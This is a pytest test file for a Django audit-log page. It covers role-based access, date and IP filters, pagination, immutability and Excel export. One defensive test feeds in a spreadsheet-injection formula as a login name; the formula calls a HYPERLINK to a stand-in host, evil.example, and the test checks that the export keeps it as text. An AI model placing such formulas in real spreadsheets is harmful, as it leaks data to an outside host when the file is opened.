"""The audit log page: the audit administrator reads, filters and exports; everyone else gets 403."""

from __future__ import annotations

import datetime
import io
import zoneinfo
from unittest import mock

import pytest
from django.urls import NoReverseMatch, Resolver404, resolve, reverse
from openpyxl import load_workbook

from guanqing.core import audit
from guanqing.core.context import RequestInfo, reset_request_info, set_request_info
from guanqing.core.models import AuditEvent

SHANGHAI = zoneinfo.ZoneInfo("Asia/Shanghai")
ROLES = [
    "committee",
    "unit_admin",
    "member",
    "community_worker",
    "window_clerk",
    "fund_officer",
    "system_admin",
    "security_admin",
]
LIST = reverse("audit:event_list")


def record_at(when: datetime.datetime, ip: str = "10.0.0.1", **kwargs) -> AuditEvent:
    token = set_request_info(RequestInfo(ip_address=ip))
    try:
        with mock.patch("django.utils.timezone.now", return_value=when):
            return audit.record(**kwargs)
    finally:
        reset_request_info(token)


@pytest.fixture
def events(world):
    u = world.users
    return {
        # 2026-03-01 23:30 in Ningbo is 15:30 UTC: it belongs to 1 March, not 2 March.
        "late": record_at(
            datetime.datetime(2026, 3, 1, 23, 30, tzinfo=SHANGHAI),
            actor=u.community_worker,
            action="update",
            obj=world.household,
            changes={"phone": ["13800000001", "13900000002"]},
        ),
        "early": record_at(
            datetime.datetime(2026, 3, 2, 0, 30, tzinfo=SHANGHAI),
            ip="172.16.4.4",
            actor=u.system_admin,
            action="create",
            obj=u.window_clerk,
            changes={"username": [None, "window_clerk"]},
        ),
        "login": record_at(
            datetime.datetime(2026, 3, 5, 9, 0, tzinfo=SHANGHAI),
            actor=u.committee,
            action="login",
            obj=u.committee,
        ),
    }


def shown(client, **params) -> list[int]:
    response = client.get(LIST, params)
    assert response.status_code == 200
    return [e.pk for e in response.context["events"]]


@pytest.mark.parametrize("role", ROLES)
def test_audit_log_is_forbidden_to_every_other_role(client, world, events, role):
    client.force_login(getattr(world.users, role))
    assert client.get(LIST).status_code == 403
    assert client.get(reverse("audit:event_export")).status_code == 403


def test_anonymous_visitor_is_sent_to_login(client, db):
    response = client.get(LIST)
    assert response.status_code == 302
    assert reverse("accounts:login") in response["Location"]


def test_audit_admin_sees_newest_first(pinned_today, client, world, events):
    # On a day after the events: what the test itself writes today falls after `until`.
    client.force_login(world.users.audit_admin)
    ids = shown(client, until="2026-03-31")
    assert ids == [events["login"].pk, events["early"].pk, events["late"].pk]


def test_changes_are_shown_old_to_new_with_field_labels(client, world, events):
    client.force_login(world.users.audit_admin)
    body = client.get(LIST, {"action": "update"}).content.decode()
    assert "13800000001" in body and "13900000002" in body
    assert "<details>" in body and "→" in body


def test_filter_by_actor_action_and_object_type(client, world, events):
    client.force_login(world.users.audit_admin)
    assert shown(client, actor="community") == [events["late"].pk]
    assert shown(client, action="create") == [events["early"].pk]
    assert shown(client, object_type="registry.household") == [events["late"].pk]


def test_date_range_uses_asia_shanghai_dates(client, world, events):
    client.force_login(world.users.audit_admin)
    assert shown(client, since="2026-03-01", until="2026-03-01") == [events["late"].pk]
    assert shown(client, since="2026-03-02", until="2026-03-02") == [events["early"].pk]
    assert set(shown(client, since="2026-03-02")) >= {events["early"].pk, events["login"].pk}
    assert events["late"].pk not in shown(client, since="2026-03-02")


def test_reversed_date_range_is_reported_on_the_end_date(client, world, events):
    client.force_login(world.users.audit_admin)
    response = client.get(LIST, {"since": "2026-03-05", "until": "2026-03-01"})
    assert "until" in response.context["filter"].form.errors


def test_filter_by_ip_prefix(client, world, events):
    client.force_login(world.users.audit_admin)
    assert shown(client, ip="172.16.") == [events["early"].pk]


def test_htmx_filter_answers_only_the_results(client, world, events):
    client.force_login(world.users.audit_admin)
    response = client.get(
        LIST, {"action": "login"}, HTTP_HX_REQUEST="true", HTTP_HX_TARGET="audit-results"
    )
    body = response.content.decode()
    assert "<html" not in body and "<table" in body


def test_pagination_keeps_fifty_a_page(client, world, events):
    for i in range(55):
        audit.record(actor=world.users.committee, action="login", message=f"n{i}")
    client.force_login(world.users.audit_admin)
    assert len(shown(client)) == 50
    assert len(shown(client, page=2)) == AuditEvent.objects.count() - 50 > 0


def test_list_query_count_does_not_grow_with_rows(
    client, world, events, django_assert_max_num_queries
):
    client.force_login(world.users.audit_admin)
    with django_assert_max_num_queries(12):
        client.get(LIST)
    for _ in range(40):
        audit.record(actor=world.users.committee, action="update", obj=world.household)
    with django_assert_max_num_queries(12):
        client.get(LIST)


def test_export_is_the_filtered_log_and_is_itself_audited(client, world, events):
    client.force_login(world.users.audit_admin)
    response = client.get(reverse("audit:event_export"), {"action": "create"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 2
    assert rows[1][1] == "system_admin"
    assert rows[1][0] == "2026-03-02 00:30:00"
    export = AuditEvent.objects.get(action="export")
    assert export.actor == world.users.audit_admin
    assert "action=create" in export.message


def test_an_export_past_the_limit_is_refused_with_a_request_to_narrow_it(
    client, world, events, settings
):
    client.force_login(world.users.audit_admin)
    settings.EXPORT_MAX_ROWS = 1
    response = client.get(reverse("audit:event_export"), {"actor": ""})
    assert response.status_code == 302
    assert response["Location"] == f"{reverse('audit:event_list')}?actor="
    assert "超过单次导出的上限 1 条" in client.get(response["Location"]).content.decode()
    assert not AuditEvent.objects.filter(action="export").exists()
    narrowed = client.get(reverse("audit:event_export"), {"action": "create"})
    assert narrowed.status_code == 200


def test_there_is_no_route_to_change_or_delete_events(client, world, events):
    pk = events["late"].pk
    for name in ("event_update", "event_delete", "event_edit", "event_detail"):
        with pytest.raises(NoReverseMatch):
            reverse(f"audit:{name}", args=[pk])
    for path in (f"/audit/{pk}/", f"/audit/{pk}/delete/", f"/audit/{pk}/edit/"):
        with pytest.raises(Resolver404):
            resolve(path)
    client.force_login(world.users.audit_admin)
    assert client.post(LIST, {"id": pk}).status_code == 405
    assert client.delete(LIST).status_code == 405
    assert AuditEvent.objects.filter(pk=pk).exists()


def test_export_keeps_a_formula_typed_as_a_user_name_as_text(client, world):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    client.post(reverse("accounts:login"), {"username": formula, "password": "whatever-123"})
    client.force_login(world.users.audit_admin)
    response = client.get(reverse("audit:event_export"))
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == formula]
    assert cells, "the failed sign-in is exported"
    assert all(cell.data_type == "s" for cell in cells)


# --- labels: every key and code reads as words ----------------------------------------------


def _changes_text(body: str) -> str:
    return " ".join(part.split("</ul>")[0] for part in body.split('<ul class="changes">')[1:])


def test_an_import_summary_reads_as_words(client, world):
    from guanqing.core.excel import read_sheet
    from guanqing.registry.imports import import_sheet
    from guanqing.registry.tests.excel_helpers import HOUSEHOLD_HEADERS, household_row, xlsx_bytes

    sheet = read_sheet(
        io.BytesIO(xlsx_bytes(HOUSEHOLD_HEADERS, [household_row(1, world.community.code)]))
    )
    result = import_sheet(
        actor=world.users.committee, kind="households", sheet=sheet, file_name="困难家庭.xlsx"
    )
    assert result.ok, result.errors
    client.force_login(world.users.audit_admin)
    changes = _changes_text(client.get(LIST, {"action": "import"}).content.decode())
    for label in ("文件", "导入内容", "行数", "新增", "更新", "未变化", "困难家庭"):
        assert label in changes, label
    for key in ("file", "kind", "rows", "created", "updated", "unchanged", "households"):
        assert key not in changes, key


def test_a_reveal_reads_id_number_in_chinese_and_in_english(client, world):
    audit.record(
        actor=world.users.committee, action="reveal", obj=world.household, message="id_number"
    )
    client.force_login(world.users.audit_admin)
    response = client.get(LIST, {"action": "reveal"})
    [event] = response.context["events"]
    assert event.message_label == "身份证号码"
    assert "id_number" not in response.content.decode()
    client.cookies["django_language"] = "en"
    assert "ID number" in client.get(LIST, {"action": "reveal"}).content.decode()


def test_the_id_number_pseudo_field_reads_the_same_on_the_audit_page_and_the_timeline(
    client, world
):
    from guanqing.registry import services
    from guanqing.testing.idnumbers import make_id_number

    services.household_update(
        actor=world.users.committee,
        household=world.household,
        id_number=make_id_number("330203", datetime.date(1970, 1, 2), 77),
    )
    client.force_login(world.users.audit_admin)
    audit_changes = _changes_text(client.get(LIST, {"action": "update"}).content.decode())
    client.force_login(world.users.committee)
    detail = reverse("registry:household_detail", args=[world.household.pk])
    timeline = _changes_text(client.get(detail).content.decode())
    for text in (audit_changes, timeline):
        assert "身份证号码" in text and "id_number" not in text


def test_the_demo_object_type_reads_as_demo_data(client, world):
    audit.record(
        actor=None,
        actor_username="demo",
        action="import",
        object_type="demo",
        object_repr="演示数据 demo data",
        changes={"units": [None, 3]},
    )
    client.force_login(world.users.audit_admin)
    response = client.get(LIST)
    choices = dict(response.context["filter"].form.fields["object_type"].choices)
    assert choices["demo"] == "演示数据"
    event = next(e for e in response.context["events"] if e.object_type == "demo")
    assert event.type_label == "演示数据"
    assert event.change_rows[0]["field"] == "单位"
